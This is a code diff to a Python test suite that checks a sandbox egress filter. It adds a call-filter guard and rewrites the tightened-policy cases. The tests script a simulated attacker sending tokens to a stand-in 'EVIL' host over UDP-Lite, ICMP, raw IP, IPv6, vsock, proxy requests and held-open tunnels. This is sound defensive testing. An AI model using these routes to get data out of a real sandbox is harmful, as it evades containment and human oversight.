@@ -1,8 +1,8 @@
 """Egress: everything that leaves a machine but by what its card lists."""
 
-from guards import (FAMILIES, HOST_FILTER, IP_DENY, ISOLATION, NO_ROUTE, POLICY, PORT_FILTER, PRIVATE, PRIVATE_NETWORK, PROXY_FILTER,
+from guards import (CALL_FILTER, CUT, FAMILIES, HOST_FILTER, IP_DENY, ISOLATION, NO_ROUTE, POLICY, PORT_FILTER, PRIVATE, PRIVATE_NETWORK, PROXY_FILTER,
                     SERVER_NAME, STRICT_PROXY, UNPRIVILEGED)
-from lab import BROKER, EVIL, GATEWAY, LAN_DEVICE, LAN_HOST, LISTED, METADATA, NAMESERVER, TOOLS, exchange, tls_get
+from lab import BROKER, EVIL, GATEWAY, LAN_DEVICE, LAN_HOST, LISTED, METADATA, NAMESERVER, TOOLS, exchange, tls_get, tls_inside
 from suite import case
 
 # Around the proxy: straight to an address. Each layer suffices.
@@ -69,7 +69,7 @@ for address, port, what, guards in ((GATEWAY, 9999, "the gateway", TO_HOST), (GA
     case(f"UDP: {what}", *guards)(attack)
 
 
-@case("UDP-Lite", *OUTSIDE)
+@case("UDP-Lite", CALL_FILTER, *OUTSIDE)
 def _(lab):
     token = lab.token()
     lab.attacker.wire("udp-lite", EVIL, 9999, token)
@@ -90,8 +90,8 @@ def _(lab):
     return lab.datagrams.saw(token)
 
 
-for name, to, guards in (("the internet", EVIL, (UNPRIVILEGED, *OUTSIDE)), ("the gateway", GATEWAY, (UNPRIVILEGED, *TO_HOST)),
-                         ("a device in the LAN", LAN_DEVICE, (UNPRIVILEGED, *OUTSIDE))):
+for name, to, guards in (("the internet", EVIL, (CALL_FILTER, UNPRIVILEGED, *OUTSIDE)), ("the gateway", GATEWAY, (CALL_FILTER, UNPRIVILEGED, *TO_HOST)),
+                         ("a device in the LAN", LAN_DEVICE, (CALL_FILTER, UNPRIVILEGED, *OUTSIDE))):
     case(f"ICMP: {name}", *guards)(lambda lab, to=to: "reply" in lab.attacker.wire("ping", to))
 
 for protocol, what in ((47, "GRE"), (4, "IP in IP"), (253, "a protocol for experiments")):
@@ -99,9 +99,9 @@ for protocol, what in ((47, "GRE"), (4, "IP in IP"), (253, "a protocol for exper
         token = lab.token()
         lab.attacker.wire("raw", EVIL, protocol, token)
         return lab.wire_out.saw(token.encode())
-    case(f"raw IP socket: {what}", UNPRIVILEGED, *OUTSIDE)(attack)
+    case(f"raw IP socket: {what}", CALL_FILTER, UNPRIVILEGED, *OUTSIDE)(attack)
 
-IPV6 = FAMILIES, IP_DENY, PORT_FILTER, HOST_FILTER
+IPV6 = FAMILIES, CALL_FILTER, IP_DENY, PORT_FILTER, HOST_FILTER
 
 
 @case("IPv6: UDP to the host's link-local address", *IPV6)
@@ -126,7 +126,7 @@ def _(lab):
 # What isn't the network
 
 
-@case("vsock: a service of the host", FAMILIES)
+@case("vsock: a service of the host", FAMILIES, CALL_FILTER)
 def _(lab):
     return "from secret" in lab.attacker.wire("vsock", 1, 9997)
 
@@ -361,12 +361,28 @@ def _(lab):
     return b"from neighbour" in lab.attacker.send(b"GET http://neighbour.fake.test/index.html HTTP/1.0\r\n\r\n", 8000, lab.neighbour.address)
 
 
-@case("a policy that is tightened counts on an open connection", POLICY, card={"allowed_hosts": ["api.fake.test:80", "gone.fake.test:80"]}, serial=True)
+# A policy that is tightened
+
+TIGHTENED = "gone.fake.test:80,443"
+
+
+@case("tightened policy: the next request of an open connection", POLICY, card={"allowed_hosts": [TIGHTENED, "api.fake.test:80"]}, serial=True)
 def _(lab):
-    with lab.attacker.open() as connection, lab.tightened(lab.attacker, "gone.fake.test:80") as tighten:
-        lab.resolver.names["gone.fake.test"] = [LISTED]
+    with lab.attacker.open() as connection, lab.denied(lab.attacker, TIGHTENED, cut=False) as deny:
         ask = b"GET http://gone.fake.test/ HTTP/1.1\r\nHost: gone.fake.test\r\n\r\n"
         if b"from api" not in exchange(connection, ask, b"from api"):
             raise RuntimeError("a listed host is not reached")
-        tighten()
-        return b"from api" in exchange(connection, ask, b"\r\n\r\n<")
+        deny()
+        return b"from api" in exchange(connection, ask + GET)
+
+
+@case("tightened policy: an open tunnel", CUT, card={"allowed_hosts": [TIGHTENED, "api.fake.test:443"]}, serial=True)
+def _(lab):
+    ask = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
+    with lab.attacker.open() as connection, lab.denied(lab.attacker, TIGHTENED, cut=lab.cuts) as deny:
+        exchange(connection, b"CONNECT gone.fake.test:443 HTTP/1.1\r\nHost: gone.fake.test:443\r\n\r\n", b"\r\n\r\n")
+        with tls_inside(connection, "gone.fake.test") as inner:
+            if b"from api" not in exchange(inner, ask, b"from api"):
+                raise RuntimeError("a listed host is not reached")
+            deny()
+            return b"from api" in exchange(inner, ask, b"from api")
